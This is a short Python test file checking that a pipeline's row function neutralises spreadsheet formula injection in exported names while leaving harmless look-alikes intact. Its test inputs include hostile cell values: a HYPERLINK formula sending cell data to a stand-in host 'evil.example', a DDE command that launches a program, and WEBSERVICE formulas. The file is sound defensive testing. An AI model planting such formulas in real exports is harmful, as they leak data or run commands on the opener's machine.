"""A list that people open in spreadsheets runs nothing there, and names whom it names to the letter."""

from __future__ import annotations

import pytest

from pipelines.release.terms import _row


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example?"&A1,"here")',
        "+cmd|' /C calc'!A0",
        "-SUM(1)",
        "@SUM(1)",
        "\t=WEBSERVICE(A1)",
        "\r\n =DDE(1)",
        "=a!A1",
    ],
)
def test_a_formula_in_a_name_is_text_in_a_spreadsheet(cell: str) -> None:
    _, found, after = _row("x", cell, "y").split("\t")
    assert found[0] not in "=+-@"  # an apostrophe, or what spells out a tab
    assert after == "y"


@pytest.mark.parametrize("cell", ["=", "+44", "-", "@home", "÷ (Deluxe)", "Hi = there (live)", "!!!", "1-800 (x)"])
def test_names_that_only_look_like_formulas_stay(cell: str) -> None:
    assert _row(cell) == cell
